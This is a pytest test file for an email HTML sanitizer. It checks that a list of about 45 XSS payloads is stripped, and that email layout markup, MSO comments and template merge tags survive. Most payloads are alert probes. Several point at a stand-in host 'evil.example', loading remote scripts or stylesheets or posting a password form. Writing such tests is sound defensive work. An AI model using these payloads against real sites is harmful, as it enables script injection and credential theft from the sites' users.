from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from app.services.rendering import sanitize_html
from app.services.rendering.sanitizing import ALLOWED_TAGS

DOCUMENT_TAGS = {"html", "head", "meta", "title", "style", "body"}
URL_ATTRIBUTES = {"href", "src", "background", "action", "formaction", "xlink:href", "poster", "data"}
UNSAFE_CSS = re.compile(r"expression|javascript|vbscript|behavior|-moz-binding|@import|\\", re.I)

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>hi</body>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background: url(javascript:alert(1))">x</div>',
    "<div style=\"background-image: url('javascript:alert(1)')\">x</div>",
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="-moz-binding: url(http://evil.example/x.xml#x)">x</div>',
    '<div style="width: expr\\ession(alert(1))">x</div>',
    '<div style="background: url(data:image/png;base64,AAAA)">x</div>',
    "<style>body { background: url(javascript:alert(1)) } @import url(http://evil.example/x.css);</style>",
    "<style>p { width: expression(alert(1)) }</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<head><meta http-equiv="refresh" content="0;url=https://evil.example"></head><body>x</body>',
    '<head><base href="javascript:alert(1)//"></head><body><a href="x">x</a></body>',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    '<!--[if gte mso 9]><v:rect href="javascript:alert(1)"></v:rect><![endif]-->',
    "<!--><script>alert(1)</script>-->",
    '<a href="{{ unsubscribe_url }}" onclick="steal()">x</a>',
    "<title><script>alert(1)</script></title>",
]


class _Inventory(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []
        self.style_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        if self.lasttag == "style":
            self.style_text.append(data)


def assert_safe(markup: str) -> None:
    inventory = _Inventory()
    inventory.feed(markup)
    for tag, attrs in inventory.tags:
        assert tag in ALLOWED_TAGS | DOCUMENT_TAGS, tag
        for name, value in attrs:
            value = value or ""
            assert not name.startswith("on"), (tag, name)
            if name in URL_ATTRIBUTES:
                assert not re.match(r"\s*(javascript|vbscript|data):", value, re.I), (tag, name, value)
            if name == "style":
                assert not UNSAFE_CSS.search(value), value
                assert "url(data" not in value
        if tag == "meta":
            assert dict(attrs).get("http-equiv") is None
    for comment in inventory.comments:
        assert "script" not in comment.lower() and "javascript" not in comment.lower(), comment
    assert not UNSAFE_CSS.search("".join(inventory.style_text))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_does_not_survive(payload: str) -> None:
    result = sanitize_html(payload)
    assert_safe(result.html)
    assert "alert(1)</script>" not in result.html
    assert "<script" not in result.html.lower()


# Left out: a title's text is escaped rather than removed, the split tag and the comment disappear whole.
REPORTED = [p for p in XSS_PAYLOADS if "title>" not in p and "<scr<" not in p and not p.startswith("<!-->")]


@pytest.mark.parametrize("payload", REPORTED)
def test_removals_are_reported(payload: str) -> None:
    assert sanitize_html(payload).removed


def test_inventory_check_catches_unsafe_markup() -> None:
    with pytest.raises(AssertionError):
        assert_safe('<a href="javascript:alert(1)" onclick="x">x</a>')


def test_report_names_what_was_removed() -> None:
    removed = sanitize_html('<p onclick="x()">Hi</p><script>alert(1)</script><iframe></iframe>').removed
    assert "onclick attribute on <p>" in removed
    assert "<script> element" in removed
    assert "<iframe> element" in removed


def test_email_layout_markup_is_kept() -> None:
    source = (
        '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff" '
        'role="presentation"><tr><td valign="top" align="left" width="300" bgcolor="#eeeeee" '
        'style="padding: 10px 20px; font-family: Arial, sans-serif; color: #333333; mso-line-height-rule: exactly">'
        '<font color="#ff0000" face="Arial">Hi</font><center><a href="https://example.com/x?a=1&amp;b=2" '
        'target="_blank">Go</a> <a href="mailto:help@example.com">Mail</a></center>'
        '<img src="https://example.com/logo.png" alt="Logo" width="120" height="40" border="0"></td></tr></table>'
    )
    result = sanitize_html(source)
    for fragment in [
        'width="600"', 'cellpadding="0"', 'cellspacing="0"', 'align="center"', 'bgcolor="#ffffff"',
        'valign="top"', "padding: 10px 20px", "font-family: Arial, sans-serif", "mso-line-height-rule: exactly",
        '<font color="#ff0000" face="Arial">', "<center>", 'href="https://example.com/x?a=1&amp;b=2"',
        'href="mailto:help@example.com"', 'alt="Logo"',
    ]:
        assert fragment in result.html, fragment
    assert result.removed == []


def test_safe_mso_conditional_comments_are_kept() -> None:
    source = (
        '<!--[if mso]><table width="600"><tr><td><![endif]--><div>Body</div><!--[if mso]></td></tr></table><![endif]-->'
        "<!--[if !mso]><!--><p>Modern clients</p><!--<![endif]-->"
    )
    result = sanitize_html(source)
    assert '<!--[if mso]><table width="600"><tr><td><![endif]-->' in result.html
    assert "<!--[if mso]></td></tr></table><![endif]-->" in result.html
    assert "<!--[if !mso]><!--><p>Modern clients</p><!--<![endif]-->" in result.html


def test_ordinary_comments_are_dropped() -> None:
    assert "secret" not in sanitize_html("<p>a</p><!-- secret note --><p>b</p>").html


def test_merge_tags_and_spintax_pass_through() -> None:
    source = (
        '<p>{Hi|Hello} {{ first_name | default("Friend") }}</p>'
        '<a href="{{ unsubscribe_url }}">Unsubscribe</a><img src="https://x.example/{{ subscriber.id }}.png" alt="">'
    )
    html = sanitize_html(source).html
    assert '<p>{Hi|Hello} {{ first_name | default("Friend") }}</p>' in html
    assert '<a href="{{ unsubscribe_url }}">' in html
    assert 'src="https://x.example/{{ subscriber.id }}.png"' in html


def test_loops_between_table_rows_stay_inside_the_table() -> None:
    html = sanitize_html("<table>{% for p in products %}<tr><td>{{ p }}</td></tr>{% endfor %}</table>").html
    assert html.index("<table>") < html.index("{% for p in products %}") < html.index("{% endfor %}")
    assert html.index("{% endfor %}") < html.index("</table>")


def test_head_is_rebuilt_with_title_and_clean_styles() -> None:
    source = (
        "<html><head><title>Spring {{ first_name }}</title><style>.a { color: red; position: fixed }"
        "@media (max-width: 600px) { .a { width: 100% !important } }</style></head><body>x</body></html>"
    )
    html = sanitize_html(source).html
    assert "<title>Spring {{ first_name }}</title>" in html
    assert ".a { color: red }" in html
    assert "@media (max-width: 600px) { .a { width: 100% !important } }" in html
    assert "position" not in html
    assert '<meta charset="utf-8">' in html


def test_text_written_outside_the_body_is_kept_in_it_as_browsers_show_it() -> None:
    source = "<html><head><title>t</title></head>\n<p>before</p><body><p>inside</p></body></html>\n<p>{{ after }}</p>"
    html = sanitize_html(source).html
    assert html.index("<p>before</p>") < html.index("<p>inside</p>") < html.index("<p>{{ after }}</p>")
    assert html.index("<p>{{ after }}</p>") < html.index("</body>")
